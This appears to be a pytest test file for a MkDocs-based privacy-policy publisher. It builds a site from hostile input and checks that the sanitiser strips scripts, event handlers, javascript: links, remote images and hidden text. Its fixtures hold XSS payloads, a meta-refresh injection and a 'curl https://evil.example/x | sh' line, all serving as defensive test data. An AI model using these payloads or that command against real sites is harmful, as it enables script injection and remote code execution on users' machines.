"""Nothing an editor writes runs in a reader's browser: one site built from every hostile input
that is accepted (with a warning at most), and every file it writes parsed and searched for
what must not be there. Plus the pieces: escaping into the theme, the URL rule, the build that
leaves site_dir as it was when it fails."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup
from building import mkdocs_build
from corpus_cases import make_case
from gitrepo import GitRepo, meta
from html_checks import EVENT, check_html_document
from markupsafe import Markup
from small_policy import EN_1_0, SV_1_0, files

from policykit.adapter import sitedir
from policykit.render import escape
from policykit.text.sanitise import sanitise, url_problem

EPOCH = "1780272000"  # 2026-06-01
SCRIPT_TITLE = "Integritetspolicy</title><script>window.pwned=1</script>"
ATTRIBUTE_TITLE = 'Privacy" onmouseover="window.pwned=1'

HOSTILE_SV_1 = (
    '# 1. Insamling <img alt="<" src=x onerror=window.pwned=1>\n\n'
    'a. Vi samlar in namn. <div id="__config">x</div> <span id="__search">y</span> Vi säljer '
    '<span class="tabbed-block" hidden aria-hidden="true" style="display:none">inte </span>dina uppgifter. '
    "<!-- jurist: lagring > 1 år hemlig-anteckning --> <details><summary>Loggar</summary>En vecka.</details>\n\n"
    'b. Vi samlar in e-post. <img src="/\\evil.example/a.png"> ![](/\\evil.example/b.png) '
    '<img src="\\\\evil.example/c.png"> <img src=" //evil.example/d.png"> <img src="HTTPS://evil.example/e.png"> '
    '<img src="&#x2f;&#x2f;evil.example/f.png"> <img src="data:image/png;base64,AAAA"> '
    '<img src="/root.png"> <img src="java&#x09;script:alert(1)">\n\n'
    'c. Vi samlar in telefonnummer. <a href="java&#x09;script:window.pwned=1">l1</a> '
    '<a href="JaVaScRiPt:window.pwned=1">l2</a> <a href="&#106;avascript:window.pwned=1">l3</a> '
    '<a href=" vbscript:x">l4</a> <a href="data:text/html,x">l5</a> [l6](javascript:window.pwned=1) '
    '<span class="md-header policy-label ok" data-md-component="search" data-policy-x="1" hreflang="en">z</span> '
    '<span data-clipboard-text="curl https://evil.example/x | sh" class="mermaid">copy me</span>\n'
    '{: .policy-clause data-md-color-scheme="slate" }\n\n'
    "### s1-c\n\n"
    "&#xe002;00000000000000000000&#xe003;\n"
)
HOSTILE_DOCS = (
    "---\ntitle: 'Docs</title><script>window.pwned=1</script>'\ndescription: '\"><script>window.pwned=1</script>'\n---\n"
    "# Docs <script>window.pwned=1</script>\n\n"
    '<img src=x onerror=window.pwned=1> <div id="__config">a</div>\n\n'
    "## __config\n\n"
    "## Section {: #__search }\n\n"
    "![](https://tracker.example/pixel.gif)\n"
)
#: An SVG image that passes the allow-list though it is written with prefixes and editor data:
#: it is judged by namespace, and published as it is.
ACCEPTED_SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<s:svg xmlns:s="http://www.w3.org/2000/svg" '
    'xmlns:l="http://www.w3.org/1999/xlink" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
    'viewBox="0 0 10 10"><s:defs><s:linearGradient id="g"><s:stop offset="0" stop-color="#000"/>'
    '</s:linearGradient></s:defs><s:g inkscape:label="Layer 1"><s:rect width="10" height="10" '
    'style="fill:url(#g)"/><s:use l:href="#g"/><s:animate attributeName="opacity" values="0;1" dur="1s"/>'
    "</s:g></s:svg>\n"
)


#: What mkdocs.yml's values that the theme prints may hold and still be built (escaped, or
#: sanitised: theme_values.py); tests/test_integrity_theme.py has all of them.
REFRESH = '"><meta/http-equiv="refresh"/content="0;url=https://evil.example/"><img src=x onerror=window.pwned=1>'


def _hostile_mkdocs_yml(path: Path) -> str:
    config = yaml.safe_load(path.read_text(encoding="utf-8"))
    config.update(
        {
            "site_description": REFRESH,
            "repo_url": "https://example.org/r" + REFRESH,
            "repo_name": REFRESH,
            "copyright": "&copy; <a href='https://example.org/'>Org</a>" + REFRESH,
        }
    )
    config["extra"].update(
        {
            "homepage": "https://example.org/" + REFRESH,
            "social": [
                {"icon": "fontawesome/brands/github", "link": "https://example.org/" + REFRESH, "name": REFRESH}
            ],
        }
    )
    [i18n] = [entry["i18n"] for entry in config["plugins"] if isinstance(entry, dict) and "i18n" in entry]
    i18n["languages"][1]["name"] = REFRESH  # the language switch, which i18n sets for each page
    return yaml.safe_dump(config, allow_unicode=True, sort_keys=False)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Version 1.0 with a script in its title, then 1.1 that fixes the title but keeps the
    rest: the archive of 1.0 must stay harmless."""
    repo = GitRepo(tmp_path_factory.mktemp("hostile") / "repo")
    bad = meta("1.0", "2026-01-15", summary="<script>window.pwned=1</script>").replace(
        "title: {sv: Integritetspolicy, en: Privacy Policy}",
        f"title: {{sv: '{SCRIPT_TITLE}', en: '{ATTRIBUTE_TITLE}'}}",
    )
    repo.write_policy(
        {"policy.yml": bad, **files("sv", {**SV_1_0, "01-insamling.md": HOSTILE_SV_1}), **files("en", EN_1_0)}
    )
    repo.write("docs/sv/hostile.md", HOSTILE_DOCS)
    repo.write("docs/assets/drawing.svg", ACCEPTED_SVG)
    # A title from the heading, with entities: Material prints it through `striptags`, which
    # unescapes them.
    repo.write("docs/sv/entities.md", "# Notes &lt;script&gt;window.pwned=1&lt;/script&gt;\n\nText.\n")
    repo.write("mkdocs.yml", _hostile_mkdocs_yml(repo.path / "mkdocs.yml"))
    repo.commit("1.0", "2026-01-10T10:00:00Z")
    repo.write_policy(
        {
            "policy.yml": meta("1.1", "2026-02-15", summary="Fixed <b>title</b> & more").replace(
                "en: Privacy Policy}", f"en: '{ATTRIBUTE_TITLE}'}}"
            )
        }
    )  # the English title is still hostile
    repo.commit("1.1", "2026-02-01T10:00:00Z")
    result = mkdocs_build(repo.path, env={"SOURCE_DATE_EPOCH": EPOCH})
    assert result.returncode == 0, result.output
    assert "Traceback" not in result.output
    return result


@pytest.mark.build
def test_no_file_of_the_hostile_site_carries_a_script_or_a_remote_resource(hostile):
    problems: list[str] = []
    written = [p for p in hostile.site.rglob("*") if p.is_file()]
    kinds = set()
    for path in written:
        data = path.read_bytes()
        if path.suffix in (".html", ".xml", ".json", ".js", ".css", ".svg", ".txt") and b"\x00" in data:
            problems.append(f"{path}: a NUL byte")
        if path.suffix == ".html":
            kinds.add("html")
            check_html_document(path, data.decode("utf-8"), problems)
        elif path.suffix in (".xml", ".svg"):
            kinds.add(path.suffix)
            root = ET.fromstring(data)  # parses, or the test fails
            for element in root.iter():
                local = element.tag.rpartition("}")[2].lower()
                if local in ("script", "foreignobject"):
                    problems.append(f"{path}: <{local}> in XML")
                if any(EVENT.match(name.rpartition("}")[2]) for name in element.attrib):
                    problems.append(f"{path}: an event attribute in XML")
                if path.suffix == ".svg" and any(
                    "href" in name.lower() and not value.startswith("#") for name, value in element.attrib.items()
                ):
                    problems.append(f"{path}: a link out of the SVG image: {element.attrib}")
                if local in ("set", "animate") and "href" in element.get("attributeName", "").lower():
                    problems.append(f"{path}: an animation that sets a link")
                if element.tag.endswith("content") and element.text:  # Atom's escaped HTML
                    check_html_document(path, element.text, problems)
                if element.tag.endswith("summary"):  # type text: shown as text by feed readers
                    assert element.get("type") in (None, "text")
        elif path.name == "search_index.json":
            kinds.add("search")
            for doc in json.loads(data)["docs"]:
                if "<" in doc["title"]:
                    problems.append(f"{path}: markup in a search title: {doc['title']!r}")
                for tag in BeautifulSoup(doc["text"], "html.parser").find_all(True):
                    if tag.attrs or tag.name in ("script", "img", "style", "iframe", "a"):
                        problems.append(f"{path}: <{tag.name} {tag.attrs}> in a search text")
        elif path.suffix == ".json":
            kinds.add("json")
            json.loads(data)
    assert {"html", ".xml", ".svg", "search", "json"} <= kinds
    assert not problems, "\n".join(problems)


def _page(site: Path, rel: str) -> BeautifulSoup:
    return BeautifulSoup((site / rel).read_text(encoding="utf-8"), "html.parser")


@pytest.mark.build
@pytest.mark.parametrize(
    "rel, shown",
    [
        ("versions/1.0/index.html", f"{SCRIPT_TITLE}, version 1.0"),
        ("en/versions/1.0/index.html", f"{ATTRIBUTE_TITLE}, version 1.0"),
        ("index.html", "Integritetspolicy"),
        ("en/index.html", ATTRIBUTE_TITLE),
    ],
)
def test_a_title_with_markup_is_shown_as_text(hostile, rel, shown):
    soup = _page(hostile.site, rel)
    assert soup.title.get_text().strip() == shown
    assert all(not EVENT.match(name) for el in soup.find_all(True) for name in el.attrs)
    if rel == "en/index.html":  # the site's name, in the header and the logo's label
        assert soup.select_one("a.md-logo")["aria-label"] == ATTRIBUTE_TITLE
        assert soup.select_one(".md-header__topic").get_text().strip() == ATTRIBUTE_TITLE


@pytest.mark.build
def test_the_docs_page_front_matter_and_headings_are_text(hostile):
    soup = _page(hostile.site, "hostile/index.html")
    assert soup.title.get_text().strip().startswith("Docs</title><script>window.pwned=1</script> - ")
    assert soup.find("meta", attrs={"name": "description"})["content"] == '"><script>window.pwned=1</script>'
    ids = {el["id"] for el in soup.find_all(id=True)}
    assert "config" in ids and "section" in ids  # `## __config` is slugged, `{: #__search }` is dropped
    assert "h-s1-c" in {el["id"] for el in _page(hostile.site, "index.html").find_all(id=True)}
    assert not soup.select("article img[src^=http]")


@pytest.mark.build
def test_a_title_through_striptags_stays_text(hostile):
    soup = _page(hostile.site, "entities/index.html")
    assert soup.title.get_text().strip().startswith("Notes <script>window.pwned=1</script> - ")
    assert not [s for s in soup.find_all("script") if "pwned" in str(s)]


@pytest.mark.build
def test_warnings_name_what_the_page_loses(hostile):
    out = hostile.output
    assert "policy/sv/01-insamling.md:3: the id __config of <div> is removed from the page" in out
    assert "policy/sv/01-insamling.md:1: the attribute onerror= of <img> is removed" in out
    assert (
        "policy/sv/01-insamling.md:7: the link 'java\\tscript:window.pwned=1' in <a> uses javascript:, and is removed"
        in out
    )
    assert "policy/sv/01-insamling.md:8: the attribute data-md-color-scheme= of the attribute list" in out
    assert "docs/sv/hostile.md:5: the HTML element <script> is removed from the page" in out
    assert "docs/sv/hostile.md:11: the id __search of the attribute list {: #__search } is removed" in out
    assert "docs/sv/hostile.md:13: the image 'https://tracker.example/pixel.gif' is not a file of the site" in out


@pytest.mark.build
def test_the_clause_keeps_its_text_and_loses_the_attributes(hostile):
    soup = _page(hostile.site, "index.html")
    clause = soup.select_one("#s1-c")
    assert clause["class"] == ["policy-clause"]
    span = clause.find("span", string="z")
    assert span.attrs == {}  # the policy's text keeps no class of the editor's, `ok` neither
    assert clause.find("span", string="copy me").attrs == {}  # no clipboard text, no mermaid script
    assert [a.get("href") for a in clause.find_all("a") if a.get_text().startswith("l")] == [None] * 6
    images = soup.select_one("#s1-b").find_all("img")
    assert [img.get("src") for img in images] == [None] * 9
    assert "\ue002" not in soup.get_text() and "\ue003" not in soup.get_text()


@pytest.mark.build
def test_no_word_is_hidden_and_no_comment_is_published(hostile):
    """The page shows every word the record has (no class, `hidden`, `aria-hidden` or style of
    the editor's; a `<details>` open), and an editor's comment reaches no file of the site."""
    soup = _page(hostile.site, "index.html")
    clause = soup.select_one("#s1-a")
    span = clause.find("span", string="inte ")
    assert span is not None and span.attrs == {}
    assert clause.find("details").has_attr("open")
    for path in hostile.site.rglob("*"):
        if path.is_file() and path.suffix in {".html", ".json", ".xml", ".js", ".txt"}:
            text = path.read_text(encoding="utf-8", errors="replace")
            assert "hemlig-anteckning" not in text and "1 år" not in text, path
    record = json.loads((hostile.site / "policy.json").read_text(encoding="utf-8"))
    text = next(c for c in record["clauses"] if c["id"] == "s1-a")["text"]["sv"]
    assert "Vi säljer inte dina uppgifter." in text and "Loggar" in text


@pytest.mark.parametrize(
    "tag, attribute, url, problem",
    [
        ("img", "src", "logo.png", None),
        ("img", "src", "../assets/logo.png", None),
        ("img", "src", "/\\evil.example/x.png", "remote"),
        ("img", "src", "\\\\evil.example/x.png", "remote"),
        ("img", "src", " \t//evil.example/x.png", "remote"),
        ("img", "src", "&#x2F;/evil.example/x.png", "remote"),
        ("img", "src", "/\u0000/evil.example/x.png", "remote"),
        ("img", "src", "hTTp://evil.example/x.png", "remote"),
        ("img", "src", "data:image/png;base64,AA", "remote"),
        ("img", "src", "/logo.png", "remote"),
        ("a", "href", "https://example.org/", None),
        ("a", "href", "#s5-c", None),
        ("a", "href", "mailto:dpo@example.org", None),
        ("a", "href", "/\\evil.example/", None),  # a link may go to another host
        ("a", "href", "java\tscript:alert(1)", "scheme"),
        ("a", "href", "&#106;avascript:alert(1)", "scheme"),
        ("a", "href", "JAVASCRIPT:alert(1)", "scheme"),
        ("a", "href", "\u0001javascript:alert(1)", "scheme"),
        ("a", "href", "vbscript:x", "scheme"),
        ("a", "href", "data:text/html,x", "scheme"),
    ],
)
def test_one_url_rule(tag, attribute, url, problem):
    assert url_problem(tag, attribute, url) == problem


def test_the_sanitiser_drops_ids_and_reserved_classes_but_keeps_the_generators():
    from policykit.text.sanitise import trusted

    html = (
        f'<div id="{trusted("s1-a")}" class="{trusted("policy-clause")} x"><span id="s1-b" '
        'class="policy-label md-x y mermaid" data-md-component="x" data-policy-z="1" data-clipboard-text="2" '
        'hreflang="en">t</span></div>'
    )
    assert sanitise(html) == ('<div id="s1-a" class="policy-clause x"><span class="y">t</span></div>')


def test_escaping_into_the_theme_is_idempotent_and_survives_striptags():
    value = escape.text('<b>"A & B"</b>')
    assert str(value) == "&lt;b&gt;&#34;A &amp; B&#34;&lt;/b&gt;"
    assert escape.text(value) == value  # a second language pass does not escape twice
    assert str(escape.safe_striptags(value)) == "&lt;b&gt;&#34;A &amp; B&#34;&lt;/b&gt;"
    assert escape.html_text("A &amp; B <img src=x onerror=alert(1)>") == Markup("A &amp; B ")
    extra = {"a": "<x>", "b": [{"c": "'"}], "d": Markup("<p>ours</p>"), "e": False}
    assert escape.tree(extra) == {
        "a": Markup("&lt;x&gt;"),
        "b": [{"c": Markup("&#39;")}],
        "d": Markup("<p>ours</p>"),
        "e": False,
    }


@pytest.mark.build
def test_a_failed_strict_build_leaves_the_site_as_it_was(tmp_path):
    repo = make_case(tmp_path / "repo", {})  # the corpus's base: 1.0 committed
    good = mkdocs_build(repo.path, "--strict", env={"SOURCE_DATE_EPOCH": EPOCH})
    assert good.returncode == 0, good.output
    before = {p.relative_to(good.site): p.read_bytes() for p in good.site.rglob("*") if p.is_file()}
    # A warning that only MkDocs' strict mode turns into a failure, after every page is written:
    repo.write("docs/en/broken.md", "# Broken\n\n[a link](missing.md)\n")
    bad = mkdocs_build(repo.path, "--strict", env={"SOURCE_DATE_EPOCH": EPOCH})
    assert bad.returncode == 1 and "Aborted with 1 warnings in strict mode" in bad.output, bad.output
    after = {p.relative_to(bad.site): p.read_bytes() for p in bad.site.rglob("*") if p.is_file()}
    assert after == before
    assert sorted(p.name for p in good.site.parent.iterdir() if p.name.startswith(".site")) == []
    # Without --strict the same build replaces the site.
    loose = mkdocs_build(repo.path, env={"SOURCE_DATE_EPOCH": EPOCH})
    assert loose.returncode == 0 and (loose.site / "en/broken/index.html").is_file()
    assert sorted(p.name for p in good.site.parent.iterdir() if p.name.startswith(".site")) == []


@pytest.mark.build
def test_an_error_in_a_language_pass_leaves_the_site_as_it_was(tmp_path):
    """An error in the English pass (after the Swedish one has written its pages)."""
    repo = make_case(tmp_path / "repo", {})  # the corpus's base: 1.0 committed
    good = mkdocs_build(repo.path, env={"SOURCE_DATE_EPOCH": EPOCH})
    assert good.returncode == 0, good.output
    before = (good.site / "index.html").read_bytes()
    repo.write("docs/en/broken.md", "---\ntemplate: no-such-template.html\n---\n# Broken\n")
    bad = mkdocs_build(repo.path, env={"SOURCE_DATE_EPOCH": EPOCH})
    assert bad.returncode == 1, bad.output
    assert (bad.site / "index.html").read_bytes() == before and not (bad.site / "en/broken").exists()
    assert [p.name for p in good.site.parent.iterdir() if p.name.startswith(".site")] == []


@pytest.mark.build
@pytest.mark.parametrize("written", ["\x85", "\\x85"], ids=["raw", "yaml-escape"])
def test_an_old_title_with_a_next_line_character_keeps_the_archive_whole(tmp_path, written):
    """U+0085 is a line break to YAML: in generated front matter it broke the archive's page
    (the page showed YAML, and the archive entered search). Titles no longer travel that way,
    and an old version's text is read without the characters the checks refuse."""
    repo = GitRepo(tmp_path / "repo")
    old = meta("1.0", "2026-01-15").replace("sv: Integritetspolicy", f'sv: "Integritets{written}policy: x"')
    repo.write_policy({"policy.yml": old, **files("sv", SV_1_0), **files("en", EN_1_0)})
    repo.commit("1.0", "2026-01-10T10:00:00Z")
    repo.write_policy({"policy.yml": meta("1.1", "2026-02-15")})
    repo.commit("1.1", "2026-02-01T10:00:00Z")
    result = mkdocs_build(repo.path, env={"SOURCE_DATE_EPOCH": EPOCH})
    assert result.returncode == 0 and "Traceback" not in result.output, result.output
    soup = _page(result.site, "versions/1.0/index.html")
    assert soup.title.get_text().strip() == "Integritets\ufffdpolicy: x, version 1.0"
    assert soup.select_one("#s1-a") is not None and "policy_title" not in soup.get_text()
    index = json.loads((result.site / "search/search_index.json").read_text(encoding="utf-8"))
    assert not [d for d in index["docs"] if d["location"].startswith("versions/1.")]


def test_footnote_ids_are_the_extensions_not_the_texts():
    import markdown

    md = markdown.Markdown(extensions=["toc", "attr_list", "footnotes", "policykit.render.extension"])
    html = md.convert("Text[^1].\n\npara\n{: #fn:1 }\n\n### Sub {: #fn:2 }\n\n[^1]: The note.\n")
    soup = BeautifulSoup(html, "html.parser")
    assert [el["id"] for el in soup.find_all(id=True)] == ["fnref:1", "sub", "fn:1"]


@pytest.mark.build
def test_a_site_dir_that_is_a_link_stays_a_link_to_the_new_site(tmp_path):
    """A served folder reached by a link (site -> /srv/www), which an earlier build wrote: the
    build replaces what the link points to, and the link stays; the new folder is readable as
    MkDocs would make it."""
    repo = make_case(tmp_path / "repo", {})  # the corpus's base: 1.0 committed
    served = tmp_path / "www"
    served.mkdir()
    (served / "stale.html").write_text("old", encoding="utf-8")
    (served / sitedir.MARKER).write_bytes(sitedir.MARKER_TEXT)
    (repo.path / "site").symlink_to(served)
    result = mkdocs_build(repo.path, env={"SOURCE_DATE_EPOCH": EPOCH}, site=repo.path / "site")
    assert result.returncode == 0, result.output
    assert (repo.path / "site").is_symlink() and (served / "index.html").is_file()
    assert not (served / "stale.html").exists()
    assert served.stat().st_mode & 0o755 == 0o755
    assert [p.name for p in tmp_path.iterdir() if ".policy-" in p.name] == []
